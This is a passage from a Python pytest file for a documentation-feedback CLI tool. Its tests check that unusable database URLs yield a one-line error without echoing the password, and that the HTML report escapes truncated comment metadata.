        "synchronous": (f"sqlite:///{tmp_path / 'x.db'}?synchronous=bogus", "synchronous='bogus'"),
    }


@pytest.mark.parametrize("case", ["corrupt", "refused", "synchronous"])
def test_unusable_database_is_one_line_error(case, tmp_path):
    url, expected = _unusable_databases(tmp_path)[case]
    result = CliRunner().invoke(main, ["feedback", "--db", url])
    _one_line_error(result.output, result.exit_code, expected)
    assert "secret" not in result.output  # the password is not echoed
    # `deflect serve` as a real process: the error on stderr, exit 1, no traceback, nothing served.
    proc = subprocess.run([sys.executable, "-m", "deflect.cli", "serve", "--db", url, "--port", str(_free_port())],
                          capture_output=True, text=True, timeout=60, env=dict(os.environ, NO_MKDOCS_2_WARNING="1"))
    _one_line_error(proc.stderr, proc.returncode, expected)



def test_feedback_html_escapes_comment_metadata_after_cutting_it():
    """The comment's date is cut to 10 characters before it is escaped, so no entity is cut in half."""
    from deflect.collector.report import to_html

    comment = {"created": "2026&01-02T10:00", "lang": "en<b>", "reason": "unclear", "comment": "ok"}
    article = {"article": "en/a/", "views": 1, "votes": 1, "helpful": 0, "helpful_pct": 0.0,
               "reasons": {"unclear": 1}, "deflections": 0, "comments": [comment]}
    page = to_html({"articles": [article], "searches": {"top": [], "zero_results": []}})
    assert "2026&amp;01-02" in page and "en&lt;b&gt;" in page
